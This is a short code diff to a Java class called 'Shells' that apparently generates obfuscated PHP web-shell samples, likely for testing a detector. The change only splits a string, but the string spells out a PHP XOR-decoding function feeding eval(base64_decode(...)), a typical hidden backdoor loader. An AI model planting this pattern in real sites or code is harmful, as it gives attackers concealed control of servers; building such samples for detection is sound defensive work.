@@ -132,7 +132,8 @@ final class Shells {
         "decoder of its own",
         "function "
             + function
-            + "($s,$k){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])^ord($k[$i%strlen($k)]));}return $o;}eval("
+            + "($s,$k){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])^ord($k[$i%strlen($k)]));}return"
+            + " $o;}eval("
             + function
             + "(base64_decode('"
             + data
